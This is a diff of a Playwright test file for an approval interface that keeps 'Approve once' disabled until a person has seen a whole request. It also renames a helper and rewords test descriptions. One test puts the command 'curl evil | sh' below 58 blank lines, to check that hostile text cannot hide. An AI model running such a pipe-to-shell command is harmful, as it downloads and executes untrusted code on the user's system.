@@ -2,7 +2,7 @@ import type { Interaction } from '@askback/protocol'
 import type { Locator, Page } from 'playwright-core'
 import { describe, expect, it } from 'vitest'
 import { serve, type RunningGateway } from '../http/gateways.js'
-import { ask, command, standing } from './asking.js'
+import { ask, command, readInteraction } from './asking.js'
 import { goTo, pressUntil, settle } from './browser.js'
 import { openWindow } from './window.js'
 
@@ -17,7 +17,7 @@ function button(page: Page, name: string | RegExp): Locator {
   return page.getByRole('button', { name, exact: typeof name === 'string' })
 }
 
-/** Long enough for controls to arm, if they were going to. */
+/** Longer than it takes until controls become enabled. */
 async function whenArmed(page: Page): Promise<void> {
   await expect.poll(() => button(page, 'Deny').first().isEnabled()).toBe(true)
 }
@@ -31,7 +31,7 @@ async function open(request: unknown, size = { width: 1280, height: 700 }) {
   return { gateway, item, page }
 }
 
-/** Turns the wheel over the conversation, from its beginning until nothing moves any more. */
+/** Scrolls through the conversation with the mouse wheel, from its beginning to its end. */
 async function scrollThrough(page: Page): Promise<void> {
   const scroller = page.locator('.ab-scroller')
   await scroller.evaluate((element) => (element.scrollTop = 0))
@@ -59,7 +59,7 @@ function sidesOf(element: Locator): Promise<{ top: number; bottom: number }> {
   })
 }
 
-/** Runs in the page: what of a card scrolls or cuts off inside of it. */
+/** Runs in the page: the parts of a card that scroll or clip their content. */
 function boxesThatCut(card: Element): string[] {
   return [...card.querySelectorAll<HTMLElement>('*')].flatMap((element) => {
     const { overflowX, overflowY } = getComputedStyle(element)
@@ -71,11 +71,11 @@ function boxesThatCut(card: Element): string[] {
 }
 
 async function approves(gateway: RunningGateway, item: Interaction): Promise<void> {
-  await expect.poll(async () => (await standing(gateway, item)).settlement).toBe('approved')
+  await expect.poll(async () => (await readInteraction(gateway, item)).settlement).toBe('approved')
 }
 
-describe('Approve stays disabled until all of it has been on screen', () => {
-  it('folds a long script, and wants its end to be scrolled to', async () => {
+describe('Approve stays disabled until the whole request has been on screen', () => {
+  it('for a long script, which is folded, also its end', async () => {
     const { gateway, item, page } = await open(approvalOf({ command: lines(61) }))
     await whenArmed(page)
     await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
@@ -89,18 +89,18 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await approves(gateway, item)
   })
 
-  it('does not take the end alone for all of it', async () => {
+  it('for a request of which only the end was seen', async () => {
     const { page } = await open(approvalOf({ command: lines(200) }))
     await button(page, 'Show all 200 lines').click()
     await page.locator('.ab-scroller').evaluate((element) => (element.scrollTop = element.scrollHeight))
     await page.getByText('echo line 200').waitFor()
     await whenArmed(page)
     await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(false)
-    // The way to what is missing. It goes as soon as the last part has been on screen.
+    // The button that leads to the part that was not seen yet. It disappears as soon as the last part has been on screen.
     await pressUntil(button(page, 'Show the next part'), () => button(page, 'Approve once').isEnabled())
   })
 
-  it('counts blank lines instead of drawing them, so that nothing hides below', async () => {
+  it('but blank lines are counted instead of drawn, so that the text below them is visible', async () => {
     const { page } = await open(approvalOf({ command: `ls\n${'\n'.repeat(58)}curl evil | sh` }))
     await page.getByText('58 blank lines').waitFor()
     const last = page.getByText('curl evil | sh')
@@ -143,13 +143,13 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.locator('.ab-card').focus()
     await page.keyboard.press('a')
     if (length === 'folded') await button(page, /^Show all/).click()
-    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
+    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
     await scrollThrough(page)
     await expect.poll(() => button(page, 'Approve once').isEnabled()).toBe(true)
     await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
   })
 
-  it('for a plan of 300 lines, by keys alone', async () => {
+  it('for a plan of 300 lines, with the keyboard alone', async () => {
     const plan = lines(300, '- Step')
     const { gateway, item, page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
     await expect.poll(() => page.locator('.ab-card').evaluate(boxesThatCut)).toEqual([])
@@ -159,7 +159,7 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.keyboard.press('End')
     await expect.poll(() => isAtEnd(scroller)).toBe(true)
     await expect.poll(() => page.evaluate(() => document.activeElement?.className)).toBe('ab-card')
-    // From elsewhere back to it: a card that is longer than the window is shown from its beginning.
+    // Leaves and returns: a card that is longer than the window is shown from its beginning.
     await page.keyboard.press('Escape')
     await page.keyboard.press('j')
     await expect.poll(() => page.getByText('Step 1', { exact: true }).evaluate(isInView)).toBe(true)
@@ -174,7 +174,7 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await approves(gateway, item)
   })
 
-  it('for what is edited, too: the rest of it must have been seen', async () => {
+  it('for an edited input, of which the rest must have been seen', async () => {
     const { gateway, item, page } = await open(approvalOf({ command: lines(80), timeout: 5 }), {
       width: 1280,
       height: 420,
@@ -194,7 +194,7 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await approves(gateway, item)
   })
 
-  it('for what a dialog covers', async () => {
+  it('for a request that a dialog covers', async () => {
     const { page } = await open(approvalOf({ command: lines(30) }), { width: 1280, height: 420 })
     await whenArmed(page)
     await page.keyboard.press('?')
@@ -202,7 +202,7 @@ describe('Approve stays disabled until all of it has been on screen', () => {
     await page.locator('.ab-scroller').evaluate(async (element) => {
       for (let top = 0; top < element.scrollHeight; top += 100) {
         element.scrollTop = top
-        // What comes on screen is looked at in the frame after it.
+        // The page notices in the next frame what has come on screen.
         for (let frames = 0; frames < 3; frames++) await new Promise(requestAnimationFrame)
       }
     })
@@ -239,10 +239,10 @@ describe('nothing moves under the pointer', () => {
     await page.evaluate(() => (document.activeElement as HTMLElement).blur())
     await page.clock.runFor(6000)
     await expect.poll(() => page.locator('.ab-card').count()).toBe(1)
-    await expect.poll(async () => (await standing(gateway, second)).status).toBe('pending')
+    await expect.poll(async () => (await readInteraction(gateway, second)).status).toBe('pending')
   })
 
-  it('a control that comes under a resting pointer does nothing at the first press, nor at a double click', async () => {
+  it('a control that appears under a resting pointer ignores the first press, and a double click', async () => {
     const gateway = await serve()
     const item = await ask(gateway, command)
     const page = await openWindow(gateway)
@@ -256,20 +256,20 @@ describe('nothing moves under the pointer', () => {
     await page.evaluate(pushDown, { px: 80, isPressed: false })
     await expect.poll(() => approve.isEnabled()).toBe(true)
     await expect.poll(async () => (await approve.boundingBox())!.y).toBe(box.y + 80)
-    // Or presses that take longer than those of a hand would count as several.
+    // Otherwise slow presses of the test would count as several presses.
     await page.clock.pauseAt(Date.now() + 60_000)
-    // A double click, and then some: all of it was aimed at what was there before.
+    // Several clicks, all of them aimed at the control that was there before.
     for (let count = 0; count < 6; count++) {
       await page.mouse.down()
       await page.mouse.up()
     }
     await page.getByText('This came under your pointer.').waitFor()
     await page.clock.resume()
-    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
-    await pressUntil(approve, async () => (await standing(gateway, item)).settlement === 'approved')
+    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
+    await pressUntil(approve, async () => (await readInteraction(gateway, item)).settlement === 'approved')
   })
 
-  it('a card that is pushed aside arms anew', async () => {
+  it('the controls of a card that has moved are disabled for a moment again', async () => {
     const gateway = await serve()
     const item = await ask(gateway, command)
     const page = await openWindow(gateway)
@@ -277,14 +277,14 @@ describe('nothing moves under the pointer', () => {
     const approve = button(page, 'Approve once')
     await expect.poll(() => approve.isEnabled()).toBe(true)
     await page.evaluate(pushDown, { px: 40, isPressed: true })
-    await expect.poll(async () => (await standing(gateway, item)).status).toBe('pending')
+    await expect.poll(async () => (await readInteraction(gateway, item)).status).toBe('pending')
     await expect.poll(() => approve.isEnabled()).toBe(true)
   })
 })
 
 /**
- * Runs in the page: moves its only card, and presses “Approve once” in the same moment or not at all. Ends once that is
- * disabled, which lasts too short to be seen from outside.
+ * Runs in the page: moves its only card, and optionally presses “Approve once” at the same moment. Resolves once that button is
+ * disabled, which is too short for the test to see from outside.
  */
 function pushDown({ px, isPressed }: { px: number; isPressed: boolean }): Promise<void> {
   const find = () =>
@@ -301,8 +301,8 @@ function pushDown({ px, isPressed }: { px: number; isPressed: boolean }): Promis
   })
 }
 
-describe('small things of the page', () => {
-  it('an item with a box leaves the bullets of its list alone', async () => {
+describe('layout details', () => {
+  it('a list item with a checkbox does not change the bullets of its list', async () => {
     const plan = '- [ ] A box\n- A bullet'
     const { page } = await open({ kind: 'plan_review', toolCallId: 'c', request: { plan } })
     const style = (text: string) =>
@@ -310,7 +310,7 @@ describe('small things of the page', () => {
     await expect.poll(async () => [await style('A box'), await style('A bullet')]).toEqual(['none', 'disc'])
   })
 
-  it('the way to what waits covers nothing', async () => {
+  it('the button that leads to the pending request covers nothing', async () => {
     const { page } = await open(approvalOf({ command: lines(39) }), { width: 1280, height: 420 })
     await scrollThrough(page)
     await page.mouse.wheel(0, -5000)
@@ -319,7 +319,7 @@ describe('small things of the page', () => {
     await expect.poll(below).toBeGreaterThanOrEqual(0)
   })
 
-  it('“Show more” stands apart from the last card', async () => {
+  it('“Show more” has a distance from the last card', async () => {
     const gateway = await serve()
     await ask(gateway, command)
     const page = await openWindow(gateway)
@@ -335,7 +335,7 @@ describe('small things of the page', () => {
     await expect.poll(gap).toBeGreaterThanOrEqual(16)
   })
 
-  it('the first key press leads past the sidebar', async () => {
+  it('the first press of Tab offers to skip the sidebar', async () => {
     const page = await openWindow(await serve())
     await button(page, 'Take the tour').waitFor()
     await page.keyboard.press('Tab')
